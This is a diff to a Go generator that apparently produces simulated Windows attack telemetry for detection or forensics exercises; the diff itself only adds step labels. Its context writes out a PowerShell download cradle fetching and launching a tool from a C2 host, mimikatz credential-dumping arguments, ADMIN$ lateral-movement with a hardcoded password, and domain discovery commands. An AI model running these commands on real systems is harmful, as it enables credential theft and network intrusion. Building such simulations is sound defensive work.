@@ -124,6 +124,7 @@ func Generate(cfg Config) *Scenario {
 
 	// 1. Delivery: Outlook saves the attachment, the user opens it.
 	g.inNoise = false
+	g.step = StepDelivery
 	g.advance(30*time.Second, 2*time.Minute)
 	g.fileCreate(outlook, f.Document)
 	g.advance(3*time.Second, 15*time.Second)
@@ -135,6 +136,7 @@ func Generate(cfg Config) *Scenario {
 	g.imageLoad(word, `C:\Program Files\Common Files\Microsoft Shared\VBA\VBA7.1\VBE7.DLL`, "VBE7.DLL", "Visual Basic for Applications Runtime", true)
 
 	// 2. Execution: the macro starts PowerShell with an encoded download cradle.
+	g.step = StepExecution
 	script := fmt.Sprintf("$w=New-Object Net.WebClient;$w.DownloadFile('http://%s/dl/igfx.bin','%s');Start-Process '%s' -ArgumentList 'privilege::debug sekurlsa::logonpasswords exit' -WindowStyle Hidden",
 		f.C2Domain, f.Tool, f.Tool)
 	f.DecodedCommand = script
@@ -154,6 +156,7 @@ func Generate(cfg Config) *Scenario {
 	g.fileCreate(ps, f.Tool)
 
 	// 3. Credential access: the tool opens lsass.
+	g.step = StepCredentials
 	g.advance(500*time.Millisecond, 2*time.Second)
 	toolHashes := "SHA1=" + g.hex(40) + ",MD5=" + g.hex(32) + ",SHA256=" + f.ToolHash + ",IMPHASH=" + g.hex(32)
 	tool := g.start(wks, ps, f.Tool, `"`+f.Tool+`" privilege::debug sekurlsa::logonpasswords exit`, f.User, "High",
@@ -175,6 +178,7 @@ func Generate(cfg Config) *Scenario {
 	sprinkle(1 + g.r.IntN(3))
 
 	// 4. Persistence on the workstation: a Run key and a scheduled task.
+	g.step = StepPersistence
 	g.advance(10*time.Second, 40*time.Second)
 	g.regSet(ps, f.RunKey, f.Tool)
 	g.advance(2*time.Second, 8*time.Second)
@@ -194,6 +198,7 @@ func Generate(cfg Config) *Scenario {
 
 	// 5. Lateral movement with the stolen admin credential: explicit
 	// credentials, SMB to ADMIN$, a service on the server.
+	g.step = StepLateral
 	g.advance(30*time.Second, 2*time.Minute)
 	lateral := fmt.Sprintf("$p=ConvertTo-SecureString 'Spring2026!' -AsPlainText -Force;$c=New-Object System.Management.Automation.PSCredential('%s',$p);New-PSDrive -Name S -PSProvider FileSystem -Root \\\\%s\\ADMIN$ -Credential $c|Out-Null;Copy-Item '%s' 'S:\\igfxsvc.exe'",
 		f.Admin, srv.name, f.Tool)
@@ -254,6 +259,7 @@ func Generate(cfg Config) *Scenario {
 	srvTool := g.start(srv, srvServices, f.ToolOnServer, `C:\Windows\igfxsvc.exe`, system, "System", `C:\Windows\system32\`, "0x3e7",
 		toolHashes, "mimikatz.exe", "mimikatz for Windows", "gentilkiwi (Benjamin DELPY)")
 	f.ServerToolGUID = srvTool.guid
+	g.step = StepDiscovery
 	g.advance(time.Second, 4*time.Second)
 	cmd := g.start(srv, srvTool, `C:\Windows\System32\cmd.exe`, `cmd.exe /c "whoami /all & net group "Domain Admins" /domain & nltest /dclist:corp.example"`,
 		system, "System", `C:\Windows\system32\`, "0x3e7", "", "Cmd.Exe", "Windows Command Processor", "Microsoft Corporation")
@@ -267,7 +273,7 @@ func Generate(cfg Config) *Scenario {
 	sprinkle(2 + g.r.IntN(4))
 
 	f.AttackEvents, f.NoiseEvents = g.attack, g.noise
-	return &Scenario{Events: g.events, Facts: f}
+	return &Scenario{Events: g.events, Facts: f, steps: g.steps}
 }
 
 // scriptBlock writes a PowerShell 4104 script block event.
